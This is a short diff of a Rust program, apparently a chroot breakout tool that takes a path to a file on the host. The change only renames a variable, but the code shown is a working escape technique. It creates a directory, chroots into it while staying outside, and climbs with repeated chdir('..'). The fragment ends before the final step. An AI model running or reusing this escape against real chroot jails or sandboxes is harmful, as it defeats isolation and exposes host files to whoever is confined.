@@ -10,12 +10,12 @@ use nix::unistd::{chdir, chroot};
 
 fn main() {
     let file = std::env::args().nth(1).expect("a file of the host");
-    let folder = format!("breakout-{}", std::process::id());
+    let directory = format!("breakout-{}", std::process::id());
     let escape = || -> std::io::Result<String> {
         chdir("/tmp")?;
-        std::fs::create_dir(&folder)?;
-        chroot(folder.as_str())?; // and we stand outside it
-        std::fs::remove_dir(&folder)?;
+        std::fs::create_dir(&directory)?;
+        chroot(directory.as_str())?; // and we stand outside it
+        std::fs::remove_dir(&directory)?;
         for _ in 0..64 {
             chdir("..")?;
         }
